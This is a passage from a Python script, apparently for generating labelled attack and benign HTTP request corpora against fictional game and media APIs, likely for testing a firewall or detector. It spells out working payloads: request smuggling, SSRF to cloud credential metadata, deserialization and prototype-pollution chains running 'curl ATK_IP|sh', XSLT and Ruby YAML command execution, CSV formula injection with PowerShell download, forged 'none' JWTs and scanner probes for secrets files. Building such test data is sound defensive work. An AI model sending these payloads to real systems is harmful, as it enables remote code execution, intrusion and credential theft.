    out.append(mkwire(c, "bad_length", "POST /v1/anticheat/report HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nContent-Type: application/json\r\nContent-Length: 99999999999999999999\r\n\r\n{\"reason\":\"aimbot\"}"
                      % (G_API, UNREAL_UAS[0])))
    out.append(mkwire(c, "absolute_uri", "GET http://169.254.169.254/latest/meta-data/iam/security-credentials/ HTTP/1.1\r\nHost: %s\r\nUser-Agent: %s\r\nAccept: */*\r\n\r\n"
                      % (VID_CDN, PLAYER_UAS[2])))
    out.append(mkwire(c, "h2c_upgrade", "GET /internal/metrics HTTP/1.1\r\nHost: %s\r\nUser-Agent: h2csmuggler/0.1\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n"
                      "Connection: Upgrade, HTTP2-Settings\r\n\r\n" % LIVE_API))
    out.append(mkwire(c, "smuggling", "POST /v1/events/batch HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n"
                      "2;\nxx\r\n4c\r\n0\r\n\r\nGET /v1/admin/flags HTTP/1.1\r\nHost: %s\r\nContent-Length: 10\r\n\r\nx=\r\n0\r\n\r\n" % (G_TELE, G_TELE)))
    return out


def a_scanner():
    rng, out = R("a_scanner"), []
    c = "scanner"
    probes = [
        ("sqlmap/1.8.3#stable (https://sqlmap.org)", G_API, "/v1/leaderboards/ranked_s7?sort=score&limit=50", []),
        ("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000412)", "legacy.ironforge-games.com", "/cgi-bin/test-cgi", []),
        ("Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", VID_API, "/.env", []),
        ("Mozilla/5.0 zgrab/0.x", LIVE_API, "/.git/config", []),
        ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/87.0.4280.88 Safari/537.36", TIX_API,
         "/acunetix-wvs-test-for-some-inexistent-file", [["Acunetix-Product", "WVS/14.0 (Acunetix Web Vulnerability Scanner - Free Edition)"], ["Acunetix-Scanning-agreement", "Third Party Scanning PROHIBITED"]]),
        ("WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)", "blog.ironforge-games.com", "/wp-content/plugins/revslider/readme.txt", []),
        ("DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)", G_MODS, "/backup/db_2024.sql.gz", []),
        ("Fuzz Faster U Fool v2.1.0-dev", CDN_API, "/api/v1/.aws/credentials", []),
        ("masscan/1.3 (https://github.com/robertdavidgraham/masscan)", VID_EDGE, "/", []),
        ("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", G_MATCH, "/nmaplowercheck1714032211", []),
        ("Mozilla/5.0 [en] (X11, U; OpenVAS-VT 22.4.1)", POD_API, "/phpmyadmin/index.php", []),
        ("gobuster/3.6", IMG, "/server-status", []),
        ("commix/v3.9-stable (https://commixproject.com)", VID_API, "/api/v2/preview?preset=fast", []),
        ("Mozilla/5.0 (compatible; Netsparker)", TIX_API, "/actuator/env", [["X-Scanner", "Netsparker"]]),
        ("Arachni/v1.6.1.3", MUS_API, "/debug/pprof/goroutine?debug=2", []),
        ("python-requests/2.31.0", G_AUTH, "/wp-login.php", [["X-Forwarded-Host", "a8f3kq2.burpcollaborator.net"]]),
    ]
    for ua, host, uri, extra in probes:
        h = [["Host", host], ["User-Agent", ua], ["Accept", "*/*"]] + extra + [["Connection", "close"]]
        out.append(mk(c, "probe", "GET", uri, h))
    return out


def a_generic():
    rng, out = R("a_generic"), []
    c = "generic"
    out.append(mk(c, "proto_pollution", "PATCH", "/v1/players/me/profile", game(rng, G_API, ctype="application/json"),
                  '{"display_name":"ShadowFox","__proto__":{"isAdmin":true,"role":"staff"}}'))
    out.append(mk(c, "proto_pollution", "PUT", "/v1/playlists/%s" % b62(rng, 22), api(rng, MUS_API, ctype="application/json"),
                  jdump({"name": "gym", "constructor": {"prototype": {"isPremium": True, "canPublishGlobally": True}}})))
    out.append(mk(c, "proto_pollution", "GET", "/v1/alerts/render?__proto__[outputFunctionName]=x;process.mainModule.require('child_process').execSync('curl%%20%s');x" % OAST,
                  browser(rng, LIVE_API, origin=LIVE_WEB)))
    out.append(mk(c, "proto_pollution", "GET", "/v1/store/offers?constructor[prototype][price]=0&page=1", game(rng, G_API)))
    out.append(mk(c, "esi", "POST", "/api/v2/videos/%s/comments" % asset_id(rng), api(rng, VID_API, ctype="application/json", extra=[["Origin", VID_WEB]]),
                  jdump({"text": "nice <esi:include src=\"http://%s/esi.html\"/> video" % ATK_IP})))
    out.append(mk(c, "esi", "PATCH", "/v1/players/me/profile", game(rng, G_API, ctype="application/json"),
                  jdump({"display_name": "x<esi:vars>$(HTTP_COOKIE{'session'})</esi:vars>x", "bio": "<esi:include src=\"/v1/admin/config\"/>"})))
    out.append(mk(c, "ssi", "POST", "/api/v2/videos/%s/captions" % asset_id(rng), api(rng, VID_API, ctype="application/json"),
                  jdump({"language": "en", "format": "srt", "content": "1\n00:00:01,000 --> 00:00:02,000\n<!--#exec cmd=\"cat /etc/passwd\" -->\n"})))
    out.append(mk(c, "node_deser", "GET", "/v1/saves/me/slots", game(rng, G_SAVE, extra=[["Cookie", "profile=" + base64.b64encode(
        b'{"rce":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'curl ' + ATK_IP.encode() + b'|sh\')}()"}').decode()]])))
    out.append(mk(c, "node_deser", "POST", "/v1/saves/sync", game(rng, G_SAVE, ctype="application/json"),
                  jdump({"slot": 1, "state": "{\"quest\":\"_$$ND_FUNC$$_function(){require('child_process').execSync('id')}()\"}"})))
    pickle = b"cposix\nsystem\n(S'curl -s http://" + ATK_IP.encode() + b"/p|sh'\ntR."
    out.append(mk(c, "pickle", "POST", "/v1/saves/sync", game(rng, G_SAVE, ctype="application/json"),
                  jdump({"slot": 4, "format": "pickle", "data": base64.b64encode(pickle).decode()})))
    ruby = ("--- !ruby/object:Gem::Installer\n    i: x\n--- !ruby/object:Gem::SpecFetcher\n    i: y\n--- !ruby/object:Gem::Requirement\n  requirements:\n"
            "    !ruby/object:Gem::Package::TarReader\n    io: &1 !ruby/object:Net::BufferedIO\n      io: &1 !ruby/object:Gem::Package::TarReader::Entry\n"
            "         read: 0\n         header: \"abc\"\n      debug_output: &1 !ruby/object:Net::WriteAdapter\n         socket: &1 !ruby/object:Gem::RequestSet\n"
            "             sets: !ruby/object:Net::WriteAdapter\n                 socket: !ruby/module 'Kernel'\n                 method_id: :system\n             git_set: id\n"
            "         method_id: :resolve\n")
    out.append(mk(c, "ruby_yaml", "PUT", "/api/v1/mods/4471/manifest.yml", api(rng, G_MODS, ctype="application/x-yaml"), ruby))
    out.append(mk(c, "js_eval", "POST", "/v1/telemetry/dashboards/query", api(rng, G_TELE, ctype="application/json"),
                  jdump({"metric": "fps_avg", "expr": "require('child_process').execSync('cat /etc/passwd').toString()"})))
    out.append(mk(c, "js_eval", "POST", "/v1/bot/commands", api(rng, LIVE_API, ctype="application/json"),
                  jdump({"command": "!roll", "response": "`${require('child_process').execSync('id')}`"})))
    out.append(mk(c, "formula", "PATCH", "/v1/players/me/profile", game(rng, G_API, ctype="application/json"),
                  jdump({"display_name": "=HYPERLINK(\"http://%s/?leak=\"&A1,\"Click\")" % ATK_IP})))
    out.append(mk(c, "formula", "POST", "/v2/events/4411822/attendees", browser(rng, TIX_API, origin=TIX_WEB) + [["Content-Type", "application/json"]],
                  jdump({"first_name": "=cmd|' /C powershell IEX(wget 0r.pe/p)'!A0", "last_name": "Smith"})))
    xsl = ("<?xml version=\"1.0\"?>\n<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" xmlns:rt=\"http://xml.apache.org/xalan/java/java.lang.Runtime\">"
           "<xsl:template match=\"/\"><xsl:variable name=\"rtobject\" select=\"rt:getRuntime()\"/><xsl:value-of select=\"rt:exec($rtobject,'id')\"/>"
           "<xsl:copy-of select=\"document('/etc/passwd')\"/></xsl:template></xsl:stylesheet>\n")
    out.append(mk(c, "xslt", "POST", "/v1/playlists/export?format=custom", api(rng, MUS_API, ctype="application/xslt+xml"), xsl))
    out.append(mk(c, "es_script", "POST", "/v1/leaderboards/ranked_s7/_search", game(rng, G_API, ctype="application/json"),
                  jdump({"size": 1, "script_fields": {"x": {"script": "java.lang.Math.class.forName(\"java.lang.Runtime\").getRuntime().exec(\"id\").getText()"}}})))
    out.append(mk(c, "access_bypass", "GET", "/v1/store/offers", game(rng, G_API, extra=[["X-Original-URL", "/v1/admin/currency/grant?amount=999999"], ["X-Rewrite-URL", "/v1/admin/currency/grant"]])))
    none_jwt = "%s.%s." % (b64url(b'{"alg":"none","typ":"JWT"}'), b64url(jdump({"sub": "1", "role": "admin", "exp": 1893456000}).encode()))
    h = game(rng, G_API)
    h = [x if x[0] != "Authorization" else ["Authorization", "Bearer " + none_jwt] for x in h]
    out.append(mk(c, "jwt_none", "POST", "/v1/admin/bans/lift", h + [["Content-Type", "application/json"]], jdump({"player_id": uuid4(rng)})))
    out.append(mk(c, "open_redirect", "GET", "/auth/callback?next=%2F%2Fironforge-games.com.evil.example%2F%252e%252e&code=" + b62(rng, 20), browser(rng, G_AUTH, accept="text/html")))
    out.append(mk(c, "open_redirect", "GET", "/activate?user_code=WDJB-MJHT&return=https:%5C%5Cevil.example%5C@play.ironforge-games.com", browser(rng, G_AUTH, accept="text/html")))
    return out


def attacks_all():
    out = []
    for g in [a_sqli, a_xss, a_lfi, a_rfi, a_rce, a_php, a_java, a_ssrf, a_xxe, a_ssti, a_nosqli, a_ldap, a_crlf, a_protocol, a_scanner, a_generic]:
        out.extend(g())
    return out


# --------------------------------------------------------------------------
# main
# --------------------------------------------------------------------------

def _key(rec):
    if "raw_b64" in rec:
        return rec["raw_b64"]
    return jdump([rec["method"], rec["uri"], [h for h in rec["headers"] if h[0] not in ("Authorization", "Cookie", "Content-Length")], rec.get("body")])


def _check(recs):
    ids, keys = set(), set()
    for r in recs:
        assert r["id"] not in ids, r["id"]
        ids.add(r["id"])
        k = _key(r)
        assert k not in keys, "duplicate request: " + r["id"]
        keys.add(k)


def _emit(recs):
    _check(recs)
    w = sys.stdout
    for r in recs:
        w.write(json.dumps(r, ensure_ascii=False) + "\n")


def _stats():
    from collections import Counter
    b = benign_all() + dev_all()
    a = attacks_all()
    _check(b)
    _check(a)
    cb = Counter(r["category"] for r in b)
    ca = Counter(r["category"] for r in a)
    sys.stderr.write("benign %d (%s)\n" % (len(b), ", ".join("%s %d" % kv for kv in sorted(cb.items()))))
    sys.stderr.write("attacks %d (%s)\n" % (len(a), ", ".join("%s %d" % kv for kv in ca.most_common())))
    sys.stderr.write("raw_b64 lines: benign %d, attacks %d\n" % (sum("raw_b64" in r for r in b), sum("raw_b64" in r for r in a)))
    sub = Counter(r["id"].split("/")[2].rsplit("-", 1)[0] for r in b if r["category"] == "benign")
    sys.stderr.write("benign subgroups: %s\n" % ", ".join("%s %d" % kv for kv in sorted(sub.items())))


def main(argv):
    if len(argv) != 2 or argv[1] not in ("attacks", "benign", "stats"):
        sys.stderr.write("usage: corpus-media.py attacks|benign|stats\n")
        return 2
    if argv[1] == "attacks":
        _emit(attacks_all())
    elif argv[1] == "benign":
        _emit(benign_all() + dev_all())
    else:
        _stats()
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
